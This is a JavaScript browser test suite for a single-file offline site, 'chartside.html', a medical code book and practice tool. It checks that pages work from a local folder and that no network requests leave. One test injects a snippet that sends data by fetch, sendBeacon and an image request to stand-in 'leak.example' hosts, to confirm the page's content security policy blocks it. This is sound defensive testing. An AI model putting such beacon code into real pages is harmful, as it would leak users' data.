// chartside.html: the site in one file, opened by a double click, alone in a folder. Every page does its work, no request goes
// out, a copy that is not whole says so, and the pages that need a server say what to open instead.
// Browsers: chromium, firefox

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { SITE, start } from './harness.mjs';
import { calm, foreignTo, hostOf, openSink } from './sink.mjs';
import { JOBS } from './site-jobs.mjs';
import { fitForAll, textOf } from './site.mjs';

const FILE = join(SITE, 'chartside.html');
const LEAK = `
  fetch('http://fetch.leak.example/', { mode: 'no-cors', method: 'POST', body: 'note' }).catch(() => {});
  try { navigator.sendBeacon('http://beacon.leak.example/', 'note'); } catch {}
  try { new Image().src = 'http://image.leak.example/'; } catch {}
  document.documentElement.dataset.ran = 'yes';
`;

/** The file with a leak in it; with its policy, which is told to run it, or without any. */
function leaking(policy) {
  const hash = `'sha256-${createHash('sha256').update(LEAK).digest('base64')}'`;
  const html = readFileSync(FILE, 'utf8').replace('</body>', `<script>${LEAK}</script>\n</body>`);
  return policy ? html.replace('script-src ', `script-src ${hash} `) : html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
}

describe('the site in one file', { timeout: 600_000 }, () => {
  let folder;
  let address;
  before(() => {
    // A folder such as people have.
    folder = join(mkdtempSync(join(tmpdir(), 'chartside-file-')), 'Class of 2026 (ü)');
    mkdirSync(folder);
    cpSync(FILE, join(folder, 'chartside.html'));
    address = pathToFileURL(join(folder, 'chartside.html')).href;
  });
  after(() => rmSync(join(folder, '..'), { recursive: true, force: true }));

  const put = (name, text) => {
    writeFileSync(join(folder, name), text);
    return pathToFileURL(join(folder, name)).href;
  };

  /** Runs `work` in a browser all of whose traffic is watched; gives what left it, and what a page asked for that is no file. */
  async function watched(work) {
    const sink = await openSink();
    const session = await start({ extension: null, launch: sink.launch });
    const asked = [];
    const errors = [];
    const watch = (page) => {
      page.on('request', (request) => asked.push(request.url()));
      page.on('pageerror', (error) => errors.push(String(error)));
      page.on('console', (message) => errors.push(`${message.type()}: ${message.text()}`));
    };
    try {
      await work((place = '') => session.at(address + place, watch), session, (url) => session.at(url, watch));
      await calm();
    } finally {
      await session.close();
      await sink.close();
    }
    return { arrived: sink.arrived, asked, errors, served: session.server.requests };
  }

  test('every page does its work by its path, alone in a folder; no request goes out', async () => {
    const usual = new Set((await watched(async (_, session) => void (await session.at('about:blank')))).arrived.map(hostOf));
    const { arrived, asked, errors, served } = await watched(async (open) => {
      let page = await open();
      await JOBS.codebook(page);
      await page.goBack();
      await page.waitForSelector('.book-entry[data-code="E11.621"]');
      await page.close();
      for (const name of Object.keys(JOBS).filter((name) => name !== 'codebook')) {
        page = await open(`?${name}`);
        await JOBS[name](page);
        await page.close();
      }
    });
    assert.deepEqual(foreignTo(usual, arrived), []);
    assert.deepEqual(asked.filter((url) => !url.startsWith(address) && !/^(blob|data):/.test(url)), []);
    assert.deepEqual(served, []);
    assert.deepEqual(errors, []);
  });

  test('links lead from page to page, to a code and to a scenario, and back', async () => {
    const { errors } = await watched(async (open) => {
      const page = await open('#E11.621');
      await page.waitForSelector('.book-entry[data-code="E11.621"]');
      assert.equal(await page.title(), 'Code book · Chartside');
      const links = await page.$$eval('header nav a', (all) => all.map((a) => [a.getAttribute('href'), a.ariaCurrent]));
      assert.ok(links.length >= 4 && links.every(([href]) => /^\?[a-z]+$/.test(href)), String(links));
      assert.deepEqual(links.filter(([, current]) => current).map(([href]) => href), ['?codebook']);
      await page.click('header nav a[href="?demonstrate"]');
      await page.waitForSelector('body[data-state=library]');
      assert.equal(await page.title(), 'Demonstrate · Chartside');
      await page.click('#library [data-file="sodium-result.toml"] a');
      await page.waitForSelector('body[data-state=scenario]');
      await page.click('#about a[href="?practise#sodium-result"]');
      await page.waitForSelector('#practising:not([hidden])');
      // Firefox tells nobody that a page came back from its memory.
      await page.evaluate(() => history.back());
      await page.waitForSelector('body[data-state=scenario]');
      await page.click('.codes a[href="?codebook#I10"]');
      await page.waitForSelector('.book-entry[data-code="I10"]');
      await page.click('.site-foot a');
      await page.waitForSelector('main pre');
      assert.match(await textOf(page, 'main'), /MIT License.*Apache License/s);
      assert.equal(await page.evaluate(() => [...document.querySelectorAll('.site-foot a[href*=".html"], nav a[href*=".html"]')].length), 0);
    });
    assert.deepEqual(errors, []);
  });

  test('this would notice: a leak in a copy without its policy; with the policy the browser lets none out', async () => {
    const bare = await watched(async (_open, _session, at) => {
      await (await at(put('bare.html', leaking(false)))).waitForSelector('html[data-ran=yes]');
      await calm(2000);
    });
    const caught = ['fetch', 'beacon', 'image'].filter((by) => bare.arrived.some((line) => hostOf(line) === `${by}.leak.example`));
    assert.deepEqual(caught, ['fetch', 'beacon', 'image']);
    assert.ok(bare.asked.some((url) => url.includes('leak.example')));
    const shut = await watched(async (_open, _session, at) => {
      const page = await at(put('shut.html', leaking(true)));
      await page.waitForSelector('html[data-ran=yes]');
      await JOBS.codebook(page);
    });
    assert.deepEqual(shut.arrived.filter((line) => line.includes('leak.example')), []);
  });

  test('a copy that is not whole says so', async () => {
    const bytes = readFileSync(FILE);
    await watched(async (_open, _session, at) => {
      const page = await at(put('half.html', bytes.subarray(0, statSync(FILE).size - 2_000_000)));
      await page.waitForSelector('#trouble:not([hidden])');
      assert.match(await textOf(page, '#trouble'), /^The knowledge pack is missing\. Copy this file again: it is not whole\./);
    });
  });

  test('the pages that need a server say what to open instead, and lead there', async () => {
    await watched(async (_open, _session, at) => {
      for (const name of [...Object.keys(JOBS), 'index']) {
        const page = await at(pathToFileURL(join(SITE, `${name}.html`)).href);
        await page.waitForSelector('#from-folder:not([hidden])');
        assert.match(await textOf(page, '#from-folder'), /does not run (these pages|this page) straight from a folder.*chartside\.html.*any web server/);
        if (name === 'codebook') {
          await page.click('#from-folder a');
          await JOBS.codebook(page);
        }
        await page.close();
      }
    });
  });

  test('on a server the file works as well, and the pages do not send anybody away', async () => {
    await watched(async (_open, session) => {
      await JOBS.codebook(await session.page('/chartside.html'));
      const page = await session.page('/codebook.html');
      await page.waitForSelector('body[data-state=ready]');
      assert.equal(await page.$eval('#from-folder', (p) => p.hidden), true);
    });
  });

  test('for everyone: an entry, and the licences', async () => {
    await watched(async (open) => {
      const page = await open('#E11.621');
      await page.waitForSelector('.book-entry[data-code="E11.621"]');
      await fitForAll(page, 'an entry');
      await page.click('.site-foot a');
      await page.waitForSelector('main pre');
      await fitForAll(page, 'the licences');
    });
  });
});
